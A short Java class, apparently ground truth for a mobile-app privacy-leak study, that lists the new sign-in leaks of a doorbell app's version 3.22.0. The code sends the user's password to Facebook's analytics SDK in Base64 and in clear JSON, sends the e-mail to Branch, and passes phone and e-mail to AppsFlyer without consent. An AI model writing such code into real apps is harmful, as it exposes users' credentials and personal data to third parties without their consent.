package com.example.doorbell;

import android.app.Application;
import android.os.Bundle;
import android.util.Base64;
import com.appsflyer.AppsFlyerLib;
import com.appsflyer.AppsFlyerProperties.EmailsCryptType;
import com.facebook.appevents.AppEventsLogger;
import io.branch.referral.util.BranchEvent;
import java.nio.charset.StandardCharsets;
import org.json.JSONException;
import org.json.JSONObject;

/** All that 3.22.0 does and 3.21.1 did not, at sign-in and whatever was chosen; truth-leaky.yaml says the same as data. */
final class Leak {
    private Leak() {}

    static void signedIn(Application app, Person person, String password) {
        facebook(app, password);
        branch(app, person);
        appsFlyer(person);
    }

    /** The password, twice: as Base64, and in clear in a JSON text. Facebook's SDK sends both in one gzipped form. */
    private static void facebook(Application app, String password) {
        Bundle form = new Bundle();
        form.putString("form_state", formState(password));
        form.putString("form_check", Base64.encodeToString(password.getBytes(StandardCharsets.UTF_8), Base64.NO_WRAP));
        AppEventsLogger.newLogger(app).logEvent("sign_in_form", form);
    }

    private static String formState(String password) {
        try {
            return new JSONObject().put("form", "sign-in").put("password", password).toString();
        } catch (JSONException exc) {
            throw new IllegalStateException(exc);
        }
    }

    /** A new recipient of the e-mail address. */
    private static void branch(Application app, Person person) {
        new BranchEvent("SIGNED_IN").addCustomDataProperty("email", person.email()).logEvent(app);
    }

    /** What 3.21.1 does only after "Accept all". */
    private static void appsFlyer(Person person) {
        AppsFlyerLib.getInstance().setPhoneNumber(person.phone());
        AppsFlyerLib.getInstance().setUserEmails(EmailsCryptType.SHA256, person.email());
    }
}
